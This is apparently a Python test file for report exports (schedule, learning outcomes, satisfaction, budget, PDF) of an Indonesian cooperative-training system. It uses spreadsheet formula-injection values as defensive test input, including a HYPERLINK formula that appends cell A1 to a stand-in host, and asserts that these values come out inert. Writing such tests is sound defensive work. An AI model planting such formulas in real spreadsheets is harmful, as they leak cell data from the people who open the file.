"""The newer reports in the downloads: learning, satisfaction, budget by component/triwulan/kabupaten-kota, the
cooperative indicators and the year's schedule (its column order), the PDF's second page; every cell that a
spreadsheet would read as a formula stays text, and filenames are ASCII with an RFC 5987 filename*."""
import csv
import io
import subprocess
import uuid
import zipfile
from datetime import date

from openpyxl import load_workbook

from bench.synthetic import seed_batch
from shared.events import training as t
from tests.unit.reporting.test_budget_components import close_with_components
from tests.unit.reporting.test_learning_satisfaction import scenario as learning_scenario

PAYLOAD = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'
SCHEDULE_HEADERS = ["No", "Kode angkatan", "Materi / judul pelatihan", "Program", "Tanggal mulai", "Tanggal selesai",
                    "Lama (hari)", "Tempat", "JP", "Kapasitas", "Kabupaten/kota sasaran", "Status",
                    "Peserta terdaftar"]


def scenario(log):
    learning_scenario(log)
    nov = seed_batch(log, code="DIG-2023-03", districts={"64.72": 2}, start=date(2023, 11, 7), close=False)
    close_with_components(log, nov["batch_id"], {"honor_narasumber": (3_000_000, 3_000_000)})
    # A planned batch whose title and code a spreadsheet would run, with two completed sessions of 4 and 5 JP.
    planned = uuid.uuid4()
    log.emit(t.BatchScheduled(batch_id=planned, code="+SUM(1)", title=PAYLOAD, fiscal_year=2023,
                              venue="@Balikpapan", start_date=date(2023, 12, 4), end_date=date(2023, 12, 5),
                              capacity=25, eligible_districts=["64.71", "64.72"], session_count=2), planned)
    for no, jp in ((1, 4), (2, 5)):
        log.emit(t.SessionCompleted(batch_id=planned, session_no=no, session_date=date(2023, 12, 3 + no),
                                    roster_size=0, tallies={}, present_participant_ids=[], jp=jp),
                 f"{planned}:{no}", 3)


async def download(viewer, path):
    answer = await viewer.get(f"/api/v1/reports/{path}", params={"fiscal_year": 2023})
    assert answer.status_code == 200, answer.text
    return answer


async def test_the_schedule_lists_every_batch_in_its_documented_column_order(log, feed, viewer):
    scenario(log)
    await feed(log.records)
    answer = await download(viewer, "schedule.xlsx")
    disposition = answer.headers["content-disposition"]
    assert disposition == ("attachment; filename=\"sipelkop-jadwal-2023.xlsx\"; "
                           "filename*=UTF-8''sipelkop-jadwal-2023.xlsx")
    sheet = load_workbook(io.BytesIO(answer.content))["Jadwal"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == SCHEDULE_HEADERS
    by_code = {row[1]: dict(zip(SCHEDULE_HEADERS, row)) for row in rows[1:]}
    assert [row[1] for row in rows[1:]] == ["DIG-2023-01", "DIG-2023-02", "DIG-2023-03", "+SUM(1)"]  # by date
    first = by_code["DIG-2023-01"]
    assert (first["Tempat"], first["Kapasitas"], first["Lama (hari)"], first["Status"]) == ("Samarinda", 4, 3,
                                                                                            "selesai")
    assert first["Kabupaten/kota sasaran"] == "Kabupaten Kutai Kartanegara, Kabupaten Kutai Timur"
    assert first["Program"] == "Pelatihan Koperasi DAK 2023" and first["Peserta terdaftar"] == 4
    assert first["JP"] is None  # the seed's events carry no JP: unknown, not a guess
    planned = by_code["+SUM(1)"]
    assert (planned["JP"], planned["Status"], planned["Materi / judul pelatihan"]) == (9, "terjadwal", PAYLOAD)
    assert first["Tanggal mulai"].date() == date(2023, 7, 4)


async def test_a_formula_in_a_title_is_inert_in_every_export(log, feed, viewer):
    scenario(log)
    await feed(log.records)
    for name in ("batches", "schedule"):
        rows = list(csv.reader(io.StringIO((await download(viewer, f"{name}.csv")).text)))
        cells = [cell for row in rows for cell in row]
        assert "'" + PAYLOAD in cells and "'+SUM(1)" in cells and PAYLOAD not in cells, name
    for path in ("export.xlsx", "schedule.xlsx", "batches.xlsx"):
        content = (await download(viewer, path)).content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in sheet for sheet in sheets), path  # no formula anywhere
        book = load_workbook(io.BytesIO(content))
        found = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == PAYLOAD]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found), path


async def test_the_workbook_holds_learning_satisfaction_budget_and_cooperatives(log, feed, viewer):
    scenario(log)
    await feed(log.records)
    book = load_workbook(io.BytesIO((await download(viewer, "export.xlsx")).content))

    def table(title):
        rows = [[c.value for c in row] for row in book[title].iter_rows()]
        return [dict(zip(rows[0], row)) for row in rows[1:]]
    learning = {(r["Rincian"], r["Nama"]): r for r in table("Hasil Belajar")}
    assert learning[("Angkatan", "DIG-2023-01")]["Rata-rata kenaikan (post − pre)"] == 12.5
    assert learning[("Kabupaten/Kota", "Kabupaten Kutai Kartanegara")]["Bagian yang naik"] == 0.5
    assert learning[("Program", "Pelatihan Koperasi DAK 2023")]["Rata-rata pre-test"] == 60.0
    assert ("Kabupaten/Kota", "Kabupaten Berau") not in learning  # no scores there: left out of the sheet
    rated = {r["Kode angkatan"]: r for r in table("Kepuasan")}
    assert rated["DIG-2023-01"]["Tingkat pengisian"] == 0.7143 and rated["DIG-2023-01"]["Narasumber (1–5)"] == 4.07
    assert {r["Narasumber (kode, atau nama bila bersedia)"] for r in table("Narasumber")} == {"NS-01", "NS-02"}
    components = {r["Komponen"]: r for r in table("Anggaran Komponen")}
    assert components["Honor narasumber"]["Realisasi triwulan IV"] == 3_000_000
    quarters = {r["Triwulan"]: r for r in table("Anggaran Triwulan")}
    assert quarters["Triwulan III"]["Realisasi"] == 112_000_000  # the two July batches' Rp 56 jt
    assert quarters["Triwulan IV"]["Realisasi kumulatif"] == 115_000_000
    coops = {r["Kode Kemendagri"]: r for r in table("Indikator Koperasi")}
    assert (coops["64.02"]["Aktif"], coops["64.02"]["Anggota perempuan"], coops["64.72"]["Koperasi terdaftar"]) == (
        2, 30, 4)


async def test_the_pdf_second_page_has_the_budget_learning_and_satisfaction(log, feed, viewer, tmp_path):
    scenario(log)
    await feed(log.records)
    content = (await download(viewer, "summary.pdf")).content
    page = subprocess.run(["pdftotext", "-f", "2", "-l", "2", "-layout", "-", "-"], input=content,
                          capture_output=True, check=True).stdout.decode()
    assert "Honor narasumber" in page and "Rp 3.000.000" in page and "Triwulan III" in page
    assert "11,25" in page and "71,4%" in page  # average gain, batch A's response rate
    (tmp_path / "summary.pdf").write_bytes(content)
